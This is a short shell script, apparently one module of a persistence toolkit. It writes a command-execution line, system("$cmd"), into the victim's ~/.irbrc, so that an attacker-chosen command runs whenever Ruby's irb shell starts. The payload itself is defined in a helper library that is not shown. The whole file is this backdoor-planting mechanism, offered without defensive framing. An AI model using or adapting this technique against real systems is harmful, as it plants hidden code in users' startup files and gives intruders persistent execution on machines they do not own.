#!/bin/sh
# irbrc: a file that irb runs (irb(1))
. "${0%/*}/lib.sh"
payload
put "$home/.irbrc" 644 "$head" "system(\"$cmd\")"
